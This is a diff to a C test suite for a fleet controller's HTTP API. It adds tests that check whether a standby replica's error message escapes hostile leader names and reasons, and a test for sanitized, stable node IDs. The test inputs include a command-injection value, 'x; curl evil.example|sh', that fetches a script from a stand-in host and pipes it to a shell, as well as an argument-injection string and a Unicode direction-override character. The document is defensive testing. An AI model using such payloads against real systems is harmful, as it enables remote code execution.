@@ -1,4 +1,5 @@
 #include "controller/fleet.h"
+#include "controller/fleet_frames.h"
 
 #include <stdio.h>
 #include <stdlib.h>
@@ -230,7 +231,27 @@ static void a_standby_names_the_leader(void **state)
     expect(w, GET("/node/gpu-1.json", ""), 503, want);
     w->leader = NULL;
     expect(w, GET("/fleet.json", ""), 503, "{\"error\":\"this replica does not lead\"}");
+    w->why = "\xe2\x80\xae turned";
+    w->leader = "x; curl evil.example|sh";
+    expect(w, GET("/fleet.json", ""), 503, "{\"error\":\"\\\\u202e turned\"}");
+    w->leader = "--context=evil";
+    expect(w, GET("/fleet.json", ""), 503, " turned\"}");
     assert_int_equal(w->snapshots, 0);
+}
+
+static void an_id_is_the_same_everywhere(void **state)
+{
+    (void) state;
+    char id[PAGE_TAG_MAX], more[PAGE_TAG_MAX];
+    uint64_t n = 0;
+    fleet_id("my box\n\"%_1", 7, id);
+    assert_string_equal(id, "my_box____1-7");
+    assert_true(fleet_id_parse(id, "my box\n\"%_1", &n));
+    assert_int_equal(n, 7);
+    assert_false(fleet_id_parse("my_box____1-07", "my box\n\"%_1", &n));
+    CLEANUP_FREE char *long_name = xasprintf("%0300d", 0);
+    fleet_id(long_name, 7, more);
+    assert_true(fleet_id_parse(more, long_name, &n));
 }
 
 static void snapshots_are_shared_for_two_seconds(void **state)
@@ -473,6 +494,7 @@ static void metrics_count_what_was_served(void **state)
 static const struct suite_check checks[] = {
     { "each path has its answer", each_path_has_its_answer },
     { "a standby names the leader", a_standby_names_the_leader },
+    { "an id is the same everywhere", an_id_is_the_same_everywhere },
     { "snapshots are shared for two seconds", snapshots_are_shared_for_two_seconds },
     { "nothing is made while no viewer looks", nothing_is_made_while_no_viewer_looks },
     { "changes become one frame with the newest", changes_become_one_frame_with_the_newest },
